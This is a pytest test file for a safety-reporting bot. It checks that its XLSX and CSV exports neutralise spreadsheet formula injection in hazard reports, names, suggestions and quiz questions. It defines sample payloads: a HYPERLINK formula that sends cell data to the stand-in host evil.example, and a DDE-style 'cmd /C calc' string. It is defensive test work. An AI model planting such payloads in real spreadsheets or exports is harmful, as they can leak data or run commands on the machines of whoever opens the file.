"""Spreadsheet formula injection: text from people or the directory is written as text.

A hazard description, a member's or department's name, a suggestion or a question may start
with = + - @ (or a tab / carriage return). Every export must write it as a string cell (XLSX)
or with a leading apostrophe (CSV), never as something a spreadsheet runs.
"""

from __future__ import annotations

import csv
from io import BytesIO

import pytest
from cli_helpers import run_cli
from openpyxl import load_workbook
from sqlalchemy import select, update

from bot.console.report import write_report
from bot.console.testing import add_account, login, seed_campaign
from bot.db import transaction
from bot.exports import FORMULA_TRIGGERS, csv_field, csv_text
from bot.hazard import ledger
from bot.models import (
    CheckinEvent,
    Department,
    EventAttendance,
    HazardReport,
    Question,
    Suggestion,
    User,
)
from bot.quiz import bank

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"查看照片")'
PLUS = '+1+cmd|" /C calc"!A0'
MINUS = "-2+3+cmd"
AT = "@SUM(1+1)*cmd"
TAB = "\t=1+1"
CR = "\r=2+2"


@pytest.fixture
def poisoned(runtime, clock):
    """The seeded campaign, with formulas wherever people or the directory write text."""
    with transaction(runtime.factory) as s:
        seed_campaign(s, runtime.settings, clock())
        ledger.create_report(
            s,
            runtime.settings,
            reporter="chenjing",
            department_id=3,
            description=LINK,
            category="other",
            location=TAB,
            latitude=None,
            longitude=None,
            photos=[],
            now=clock(),
        )
        s.execute(update(HazardReport).values(measure=CR))
        s.execute(update(Department).where(Department.id == 3).values(name=MINUS))
        s.execute(update(User).where(User.userid == "liuyang").values(name=PLUS))
        s.execute(update(EventAttendance).values(name=AT))
        s.execute(update(CheckinEvent).values(title=LINK))
        s.execute(update(Suggestion).values(content=AT))
        bank.ensure_bank(s, clock())
        bank.upsert_questions(
            s,
            [
                {
                    "id": "evil-001",
                    "theme": "fire",
                    "type": "single",
                    "stem": LINK,
                    "options": [PLUS, MINUS, "安全出口"],
                    "answer": "C",
                    "explanation": AT,
                    "source": "-GB 4351",
                    "active": True,
                    "origin": "import",
                    "updated_at": clock(),
                }
            ],
            extra_columns=("active", "origin"),
        )
    return runtime


def texts_of(wb) -> set[str]:
    """Every string cell of the workbook, after checking that no cell is a formula."""
    found = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    found.add(cell.value)
    return found


def test_hazard_pledge_and_attendance_exports_write_no_formula(poisoned, cli_runtime, tmp_path):
    hazards, pledges, attendance = (tmp_path / f"{n}.xlsx" for n in ("h", "p", "a"))
    assert run_cli(poisoned, cli_runtime, "export", "hazards", str(hazards)) == 0
    assert run_cli(poisoned, cli_runtime, "export", "pledges", str(pledges)) == 0
    assert run_cli(poisoned, cli_runtime, "export", "attendance", "246810", str(attendance)) == 0

    found = texts_of(load_workbook(hazards))
    assert {LINK, PLUS, MINUS, TAB} <= found  # description, reporter, department, location
    ws = load_workbook(hazards)["隐患台账"]
    cell = next(c for c in ws["H"] if c.value == LINK)
    assert cell.data_type == "s" and cell.quotePrefix  # stays text when edited in Excel
    assert {PLUS, MINUS} <= texts_of(load_workbook(pledges))  # member and department names
    assert {AT, MINUS} <= texts_of(load_workbook(attendance))  # attendee, department


def test_summary_workbook_cli_and_console_write_no_formula(poisoned, clock, app, tmp_path):
    path = tmp_path / "summary.xlsx"
    with poisoned.factory() as s:
        write_report(s, poisoned.settings, clock(), path)
    wb = load_workbook(path)
    texts_of(wb)  # no formula on any sheet
    assert {LINK, PLUS, MINUS, TAB} <= texts_of_sheet(wb["隐患台账"])
    assert {AT, MINUS} <= texts_of_sheet(wb["建议"])
    assert LINK in texts_of_sheet(wb["签到"]) and MINUS in texts_of_sheet(wb["部门"])

    add_account(poisoned.factory, "boss", now=clock())
    client = app.test_client()
    login(client, "boss")
    r = client.get("/admin/report.xlsx")
    assert r.status_code == 200
    wb = load_workbook(BytesIO(r.data))
    assert {LINK, AT} <= texts_of(wb)


def texts_of_sheet(ws) -> set[str]:
    return {c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)}


def test_questions_export_csv_and_xlsx_write_no_formula(poisoned, cli_runtime, tmp_path):
    path = tmp_path / "bank.csv"
    assert run_cli(poisoned, cli_runtime, "questions", "export", str(path)) == 0
    with open(path, encoding="utf-8-sig", newline="") as fh:
        fields = [f for row in csv.reader(fh) for f in row]
    assert "'" + LINK in fields and "'" + PLUS in fields and "'-GB 4351" in fields
    assert not [f for f in fields if f.startswith(FORMULA_TRIGGERS)]
    # The raw file too: no line (after a quote) opens with a trigger.
    raw = path.read_text(encoding="utf-8-sig")
    assert '"=HYPERLINK' not in raw and ",=" not in raw and "\n=" not in raw

    xlsx = tmp_path / "bank.xlsx"
    assert run_cli(poisoned, cli_runtime, "questions", "export", str(xlsx)) == 0
    assert {LINK, PLUS, MINUS, AT, "-GB 4351"} <= texts_of(load_workbook(xlsx))

    # The export imports back unchanged: the apostrophe is taken off again.
    with transaction(poisoned.factory) as s:
        assert bank.import_questions(s, path, poisoned.clock()) == len(
            list(s.scalars(select(Question.id).where(Question.active.is_(True))))
        )
    with poisoned.factory() as s:
        q = s.get(Question, "evil-001")
        assert (q.stem, q.options, q.explanation, q.source) == (
            LINK,
            [PLUS, MINUS, "安全出口"],
            AT,
            "-GB 4351",
        )


def test_csv_field_round_trip():
    for text in (LINK, PLUS, MINUS, AT, TAB, CR, "'=quoted already", "普通文本", "'plain"):
        assert csv_text(csv_field(text)) == text
        assert not str(csv_field(text)).startswith(FORMULA_TRIGGERS)
    assert csv_field(3) == 3 and csv_field(None) is None


def test_text_that_looks_like_an_error_value_stays_text(tmp_path):
    """openpyxl would type "#N/A" as an error value: the streamed writer keeps it text (its
    list of such texts is openpyxl's)."""
    from openpyxl.cell.cell import ERROR_CODES

    from bot.exports import _ERROR_CODES, write_xlsx

    assert set(ERROR_CODES) == _ERROR_CODES
    path = tmp_path / "codes.xlsx"
    write_xlsx(path, [("表", ["内容"], [[code] for code in sorted(ERROR_CODES)] + [[LINK]])])
    cells = [row[0] for row in load_workbook(path)["表"].iter_rows(min_row=2)]
    assert [c.value for c in cells] == sorted(ERROR_CODES) + [LINK]
    assert {c.data_type for c in cells} == {"s"}
